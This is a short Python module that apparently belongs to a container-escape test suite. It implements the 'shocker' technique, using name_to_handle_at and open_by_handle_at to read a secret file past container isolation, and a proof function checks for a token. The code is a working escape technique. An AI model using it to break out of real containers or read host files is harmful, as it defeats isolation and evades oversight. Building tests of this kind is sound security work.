"""Open a secret by its file handle, which asks no folder on the way (the "shocker" attack on containers)."""

import ctypes
import os
import struct

from escape_tools import call

NEEDS = ("capabilities", "seccomp")
PRIVILEGED = True


def attempt(at):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, at.secret.encode(), handle, ctypes.addressof(mount), 0)
    fd = call("open_by_handle_at", os.open(".", os.O_RDONLY), handle, os.O_RDONLY)
    return os.read(fd, 100).decode()


def proof(at, seen):
    return seen.tells(at.token)
